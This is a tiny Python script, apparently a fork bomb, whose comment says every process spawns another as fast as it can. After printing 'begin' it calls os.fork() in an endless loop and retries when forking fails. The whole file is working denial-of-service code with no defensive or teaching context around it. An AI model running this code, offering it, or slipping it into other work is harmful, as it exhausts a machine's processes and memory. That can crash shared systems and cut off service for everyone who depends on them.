# Every process makes another one, as fast as it can, and takes no for no answer.
import os

print("begin", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        continue
